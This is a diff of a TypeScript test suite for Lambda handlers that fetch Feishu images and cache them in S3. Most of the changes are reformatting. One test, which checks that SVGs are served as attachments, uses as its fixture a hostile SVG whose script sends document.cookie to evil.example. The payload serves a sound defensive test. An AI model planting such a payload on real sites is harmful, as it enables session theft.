@@ -1,6 +1,5 @@
 import { createHash } from 'node:crypto';
 import { PutObjectCommand } from '@aws-sdk/client-s3';
-import { handler as baikeImage } from '../../functions/baikeImage';
 import { handler as helpdeskFaqImage } from '../../functions/helpdeskFaqImage';
 import { handler as imImage } from '../../functions/imImage';
 import { handler as whiteboardImage } from '../../functions/whiteboardImage';
@@ -24,7 +23,14 @@ describe('Storage and cache', () => {
     const second = await invoke(imImage({ imageKey: 'img_v3_cached_1' }, lambdaContext()));
 
     // Assess
-    expect(second).toMatchObject({ cached: true, sha256: first.sha256, size: first.size, contentType: first.contentType, fetchedAt: first.fetchedAt, key: first.key });
+    expect(second).toMatchObject({
+      cached: true,
+      sha256: first.sha256,
+      size: first.size,
+      contentType: first.contentType,
+      fetchedAt: first.fetchedAt,
+      key: first.key,
+    });
     expect(env.feishu.count()).toBe(0);
     expect(env.s3Commands).toEqual(['HeadObject']);
   });
@@ -83,7 +89,9 @@ describe('Storage and cache', () => {
 
   it('stores the object under its deterministic key with its type, sha256, fetch time and Feishu log id', async () => {
     // Act
-    const answer = await invoke(helpdeskFaqImage({ faqId: '6936004780707807251', imageKey: 'img_faq_jpeg_1' }, lambdaContext()));
+    const answer = await invoke(
+      helpdeskFaqImage({ faqId: '6936004780707807251', imageKey: 'img_faq_jpeg_1' }, lambdaContext()),
+    );
 
     // Assess
     const stored = await env.object('feishu/helpdesk-faq/6936004780707807251/img_faq_jpeg_1');
@@ -126,8 +134,12 @@ describe('Storage and cache', () => {
 
   it('serves an SVG, which can hold script, as an attachment, so that opening its URL runs none', async () => {
     // Prepare
-    const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>fetch("https://evil.example/?c="+document.cookie)</script></svg>';
-    env.feishu.fault({ endpoint: 'whiteboard', kind: { type: 'raw', status: 200, headers: { 'Content-Type': 'image/svg+xml' }, body: svg } });
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>fetch("https://evil.example/?c="+document.cookie)</script></svg>';
+    env.feishu.fault({
+      endpoint: 'whiteboard',
+      kind: { type: 'raw', status: 200, headers: { 'Content-Type': 'image/svg+xml' }, body: svg },
+    });
 
     // Act
     const answer = await invoke(whiteboardImage({ whiteboardId: 'wb_svg_script' }, lambdaContext()));
@@ -159,7 +171,9 @@ describe('Storage and cache', () => {
     const before = Date.now();
 
     // Act
-    const answer = await invoke(imImage({ imageKey: 'img_download', download: 'true', expiresIn: 120 }, lambdaContext()));
+    const answer = await invoke(
+      imImage({ imageKey: 'img_download', download: 'true', expiresIn: 120 }, lambdaContext()),
+    );
     const fetched = await fetch(answer.url);
 
     // Assess
@@ -185,7 +199,14 @@ describe('Storage and cache', () => {
 
   it('treats an object without its recorded sha256 (an unfinished store) as not stored', async () => {
     // Prepare
-    await env.client.send(new PutObjectCommand({ Bucket: env.bucket, Key: 'feishu/im/img_half_done', Body: Buffer.from('partial'), ContentType: 'image/png' }));
+    await env.client.send(
+      new PutObjectCommand({
+        Bucket: env.bucket,
+        Key: 'feishu/im/img_half_done',
+        Body: Buffer.from('partial'),
+        ContentType: 'image/png',
+      }),
+    );
 
     // Act
     const answer = await invoke(imImage({ imageKey: 'img_half_done' }, lambdaContext()));
